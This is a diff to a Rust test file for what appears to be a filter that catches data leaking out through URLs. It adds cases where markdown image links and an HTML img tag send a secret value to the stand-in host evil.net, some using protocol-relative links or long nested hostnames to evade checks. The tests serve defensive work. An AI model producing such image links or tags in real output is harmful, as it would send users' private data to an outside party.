@@ -272,9 +272,14 @@ fn a_long_address_is_judged_to_its_end() {
             "Anna",
         );
         takes_out(&format!("https://a.co/{orders}{orders}{front}![x](https://evil.net/Anna)"), "Anna");
+        takes_out(&format!("https://a.co/{orders}{orders}{front}![x](//evil.net/Anna)"), "Anna");
+        takes_out(&format!("<img alt='https://a.co/{orders}{orders}{front}'src='//evil.net/Anna'>"), "Anna");
     }
     takes_out(&format!("{}@evil.net/?q=[PERSON_1]", "a".repeat(170)), "[PERSON_1]");
-    takes_out(&format!("a@{}evil.net/{orders}?q=[PERSON_1]", "a.".repeat(87)), "[PERSON_1]");
+    for more in 1..9 {
+        let host = format!("{}.{}evil.net", "a".repeat(more), "com.".repeat(46));
+        takes_out(&format!("a@{host}/?q=[PERSON_1]"), "[PERSON_1]");
+    }
     let spaces = " ".repeat(3000);
     takes_out(&format!("![x]({spaces}https://evil.net/Anna)"), "Anna");
     takes_out(&format!("https://a.co/{orders}{orders}![x](https://evil.net/Anna)"), "Anna");
